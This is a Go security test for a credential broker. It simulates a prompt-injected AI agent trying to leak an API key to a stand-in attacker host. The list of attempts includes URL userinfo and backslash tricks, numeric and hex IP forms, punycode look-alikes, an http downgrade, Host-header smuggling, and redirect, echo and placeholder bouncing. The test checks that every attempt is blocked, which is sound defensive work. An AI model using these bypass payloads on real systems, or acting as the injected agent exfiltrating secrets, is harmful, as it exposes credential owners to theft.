package broker

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestInjectedAgentCannotExfiltrate plays a prompt-injected agent that holds
// a valid "use" grant for a key bound to api.example.com and tries every
// way it can think of to make the broker deliver that key somewhere else.
// The attacker's server is reachable (its name resolves, its address counts
// as public, its certificate is trusted), so only the broker's own rules
// stand in the way; the attacker must receive nothing, and the legitimate
// host must never be tricked into forwarding the key either.
func TestInjectedAgentCannotExfiltrate(t *testing.T) {
	evil := newUpstream(t, true, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "thanks") })
	evilPlain := newUpstream(t, false, nil)
	legit := newUpstream(t, true, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, "https://evil.example.org:"+evil.port()+"/?k="+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
		case "/echo":
			fmt.Fprintf(w, "auth=%s b64=%s", r.Header.Get("Authorization"), base64.StdEncoding.EncodeToString([]byte(r.Header.Get("Authorization"))))
		default:
			fmt.Fprint(w, "ok")
		}
	})
	lp, ep, pp := legit.port(), evil.port(), evilPlain.port()
	res := loopbackName("api.example.com", "evil.example.org", "api.example.com.evil.example.org", "evil.api.example.com", "xn--pi-7ba.example.com")
	b := testBroker(legit, res, true, func(o *Options) {
		o.RootCAs.AddCert(evil.Certificate())
	})
	c := Credential{Ref: "global/openai", Secret: []byte(secret), Hosts: []string{"api.example.com:" + lp}, Auth: bearer}

	attempts := []Request{
		{URL: "https://evil.example.org:" + ep + "/"},
		{URL: "https://evil.example.org:" + ep + "/api.example.com:" + lp},
		{URL: "https://evil.example.org:" + ep + "/?host=api.example.com:" + lp},
		{URL: "https://evil.example.org:" + ep + "#@api.example.com:" + lp},
		{URL: "https://api.example.com:" + lp + "@evil.example.org:" + ep + "/"},
		{URL: "https://api.example.com:" + lp + ":x@evil.example.org:" + ep + "/"},
		{URL: "https://evil.example.org:" + ep + "\\@api.example.com:" + lp + "/"},
		{URL: "https://api.example.com:" + lp + "\\@evil.example.org:" + ep + "/"},
		{URL: "https://api.example.com.evil.example.org:" + ep + "/"},
		{URL: "https://evil.api.example.com:" + ep + "/"},
		{URL: "https://api.example.com:" + ep + "/"},        // the listed name on the attacker's port
		{URL: "https://127.0.0.1:" + ep + "/"},              // an IP literal instead of the name
		{URL: "https://127.0.0.1:" + lp + "/"},              // the listed name's own address
		{URL: "https://[::ffff:127.0.0.1]:" + ep + "/"},     // the same, IPv4-mapped
		{URL: "https://2130706433:" + ep + "/"},             // the same, as one number
		{URL: "https://0x7f.1:" + ep + "/"},                 // and in hex
		{URL: "http://api.example.com:" + pp + "/"},         // downgrade to plain http
		{URL: "http://evil.example.org:" + pp + "/"},        //
		{URL: "https://evil%2eexample%2eorg:" + ep + "/"},   // percent-encoded host
		{URL: "https://xn--pi-7ba.example.com:" + ep + "/"}, // a look-alike punycode name
		{URL: "https://ápi.example.com:" + ep + "/"},        // and its Unicode spelling
		{URL: "//evil.example.org:" + ep + "/"},
		{URL: "https:evil.example.org:" + ep},
		{URL: " https://evil.example.org:" + ep + "/"},
		{URL: "https://evil.example.org:" + ep + "/", Headers: map[string]string{"Host": "api.example.com:" + lp}},
		{URL: "https://api.example.com:" + lp + "/", Headers: map[string]string{"Host": "evil.example.org:" + ep}},
		{URL: "https://api.example.com:" + lp + "/", Headers: map[string]string{"Authorization": "Bearer attacker"}},
		{URL: "https://api.example.com:" + lp + "/", Headers: map[string]string{"Proxy-Authorization": "x"}},
		{Method: "CONNECT", URL: "https://api.example.com:" + lp + "/"},
	}
	for _, a := range attempts {
		resp, err := b.Do(context.Background(), c, a)
		if err == nil {
			t.Errorf("%s %q %v: allowed (status %d)", a.Method, a.URL, a.Headers, resp.Status)
			continue
		}
		noSecret(t, "error", err.Error())
	}

	// Allowed calls that try to bounce the key: a redirect, an echo, and
	// placeholders the broker must not expand.
	resp, err := b.Do(context.Background(), c, Request{URL: "https://api.example.com:" + lp + "/redirect"})
	if err != nil || resp.Status != http.StatusTemporaryRedirect {
		t.Fatalf("redirect: %v %+v", err, resp)
	}
	noSecret(t, "redirect response", fmt.Sprint(resp.Headers)+resp.Body)
	resp, err = b.Do(context.Background(), c, Request{URL: "https://api.example.com:" + lp + "/echo"})
	if err != nil || resp.Redacted < 2 {
		t.Fatalf("echo: %v %+v", err, resp)
	}
	noSecret(t, "echo response", resp.Body)
	for _, ph := range []string{"{{secret}}", "${OPENAI_API_KEY}", "{secrets.openai}", "tresor://global/openai", "$credential"} {
		resp, err = b.Do(context.Background(), c, Request{
			Method: "POST", URL: "https://api.example.com:" + lp + "/store?note=" + ph,
			Headers: map[string]string{"X-Note": ph}, Body: "key=" + ph,
		})
		if err != nil || resp.Status != 200 {
			t.Fatalf("placeholder %s: %v", ph, err)
		}
	}

	if n := evil.count() + evilPlain.count(); n != 0 {
		t.Fatalf("the attacker's servers got %d requests", n)
	}
	legit.mu.Lock()
	defer legit.mu.Unlock()
	for _, d := range legit.dump {
		// the key appears exactly once per request: in its own header
		if got := strings.Count(d, secret); got != 1 || !strings.Contains(d, "Authorization: Bearer "+secret) {
			t.Errorf("legit host saw the key %d times:\n%s", got, d)
		}
	}
}
